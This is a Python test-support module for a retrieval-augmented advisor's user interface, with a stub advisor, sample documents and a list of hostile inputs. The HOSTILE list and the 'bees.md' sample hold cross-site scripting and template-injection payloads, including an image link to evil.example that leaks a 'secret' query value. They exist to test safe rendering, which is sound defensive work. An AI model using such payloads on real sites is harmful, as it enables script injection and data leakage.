"""Support for the tests of `ui`: a small advisor that is real in every type it gives, and whose moods a test can
choose.
"""

import re
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

from langchain_core.messages import BaseMessage
from langchain_core.runnables import RunnableConfig

from ingest.errors import GroundworkError
from ingest.readers import read_paths
from ingest.sentences import sentences
from ingest.split import split
from ingest.types import Document, Passage, Source
from rag.types import Answer, Citation, Claim, Declined, Finding, Hit, Hits, Verdict

SURVEY = Source(
    id="survey",
    title="Developer survey <2024>",
    publisher="A Survey House",
    published="2024",
    kind="survey",
    region="world",
    url="https://example.org/survey?a=1&b=2",
)
TEXT = """# Degrees

## Do I need a PhD?

A PhD is not needed for most machine learning jobs. Research posts are the exception.

- Applied teams hire people with a **bachelor's** degree.
- Research teams ask for a doctorate.

Sources: survey

## How do I start?

Start with one small project. Show it to somebody who will criticise it.

1. Pick a question you care about.
2. Find data for it.
"""

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![pixel](https://evil.example/p.png?q=secret)",
    "[click](javascript:alert(1))",
    "<a href='https://evil.example'>x</a>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "\x1b[31mred\x1b[0m \u202e desrever",
    "&lt;b&gt; & <b>",
]
"""What somebody might write into a document or a question to make a page do something."""


def small_document(text: str = TEXT, id: str = "degrees", title: str = "Degrees") -> Document:
    return Document(
        id=id, title=title, text=text, origin=f"/{id}.md", sha256="0" * 64, sources=(SURVEY,), updated="2026-11-20"
    )


def cite(document: Document, quote: str, heading: tuple[str, ...] = ()) -> Citation:
    """A citation of the first place where the quote stands; its passage is the paragraph around it."""
    at = document.text.index(quote)
    start = document.text.rfind("\n\n", 0, at) + 2 if "\n\n" in document.text[:at] else 0
    end = document.text.find("\n\n", at + len(quote))
    passage = Passage.cut(document, start, len(document.text) if end < 0 else end, heading, document.sources)
    return Citation(passage=passage, start=at, end=at + len(quote))


def supported(text: str, *citations: Citation, layout: str = "inline") -> Finding:
    verdict = Verdict(label="supported", confidence=1.0, reason="These are the source's words.")
    return Finding(
        claim=Claim.model_validate({"text": text, "citations": citations, "layout": layout}), verdict=verdict
    )


def refused(text: str, reason: str = "The source says two years.") -> Finding:
    return Finding(claim=Claim(text=text), verdict=Verdict(label="contradicted", confidence=0.9, reason=reason))


class SmallAdvisor:
    """Finds sentences that share words with the question and quotes them."""

    def __init__(self, documents: Sequence[Document], pause_seconds: float = 0.0, mode: str = "composed") -> None:
        self._documents = {d.id: d for d in documents}
        self._passages = [p for d in documents for p in split(d)]
        self.pause_seconds = pause_seconds
        self.mode = mode
        self.personal: dict[str, object] = {}
        self.asked: list[str | Sequence[BaseMessage]] = []
        self.withheld: tuple[Finding, ...] = ()
        self.problem: Exception | None = None
        self.loading: Exception | None = None
        self.loading_seconds = 0.0

    @classmethod
    def reading(cls, *paths: Path) -> "SmallAdvisor":
        return cls(read_paths(paths))

    def warm(self) -> None:
        time.sleep(self.loading_seconds)
        if self.loading is not None:
            raise self.loading

    def documents(self) -> list[Document]:
        return list(self._documents.values())

    def document(self, id: str) -> Document | None:
        return self._documents.get(id)

    def stream(
        self, input: str | Sequence[BaseMessage], config: RunnableConfig | None = None, **kwargs: Any
    ) -> Iterator[Any]:
        question = input
        self.asked.append(question)
        self.personal = kwargs
        text = question if isinstance(question, str) else str(question[-1].content)
        words = set(re.findall(r"[a-z]{3,}", text.lower())) - {"the", "and", "for", "what", "how", "need", "you"}
        scored = sorted(
            (
                (len(words & set(re.findall(r"[a-z]{3,}", (p.text + " ".join(p.heading)).lower()))), n)
                for n, p in enumerate(self._passages)
            ),
            key=lambda pair: (-pair[0], pair[1]),
        )
        hits = tuple(
            Hit(passage=self._passages[n], score=float(score), rank=rank)
            for rank, (score, n) in enumerate(scored[:4], start=1)
            if score
        )
        yield Hits(hits=hits)
        time.sleep(self.pause_seconds)
        if self.problem is not None:
            raise self.problem
        if len(hits) == 0:
            topics = tuple(dict.fromkeys(p.heading[-1] for p in self._passages if p.heading))[:3]
            declined = Declined(
                reason="not-in-sources", message="The sources here say nothing about that.", topics=topics
            )
            yield Answer(question=text, declined=declined, mode=self.mode)
            return
        findings = [*self._found(hits), *self.withheld]
        for finding in findings:
            yield finding
            time.sleep(self.pause_seconds)
        yield Answer(question=text, findings=tuple(findings), hits=hits, mode=self.mode, timings={"total": 1.0})

    def _found(self, hits: Sequence[Hit]) -> Iterator[Finding]:
        for hit in hits[:3]:
            passage = hit.passage
            for start, end in sentences(passage.text)[:2]:
                words = passage.text[start:end].removeprefix("- ")
                citation = Citation(passage=passage, start=passage.start + end - len(words), end=passage.start + end)
                yield supported(words, citation)


class BrokenAdvisor(SmallAdvisor):
    """Opens, but nothing else works."""

    def document(self, id: str) -> Document | None:
        raise GroundworkError("The index is gone. Build it again with: groundwork index --rebuild")


SOURCES = """
- {id: huyen, title: The interview book, author: Chip Huyen, published: 2021, kind: guide, url: "https://example.org/b"}
- {id: survey, title: A survey of developers, publisher: A Survey House, published: 2024, kind: survey, region: world}
"""
DOCUMENTS = {
    "phd.md": """# Do I need a PhD?

## Do I need a PhD to work in machine learning?

No, you do not need a PhD for most machine learning jobs. Chip Huyen said in 2021 that a doctorate is commonly listed
only for research scientist roles. A survey of 2024 found that few of the people who work in machine learning hold a
doctorate.

Sources: huyen, survey

## What is a PhD good for?

- A PhD in machine learning opens research scientist roles.
- A PhD teaches you to work on one question for years.

Sources: huyen
""",
    "start.md": """# Starting

## How do I start in machine learning?

Start in machine learning with one small project that you finish. A finished project shows an employer what you can do.

1. Pick a question that you care about.
2. Find public data that could answer the question.
3. Write down what you found for somebody who was not there.

Sources: survey
""",
    "bees.md": """# Bees

## How do I become a beekeeping data scientist?

A beekeeping data scientist starts by counting bees with <b>care</b> <script>window.ran = 1</script> every day.
A beekeeping data scientist needs a hive <img src=x onerror="window.ran = 1"> and a notebook ${window.ran = 1}.
A beekeeping data scientist reads ![a picture](http://example.org/bee.png) one paper a week {{window.ran}}.
""",
}
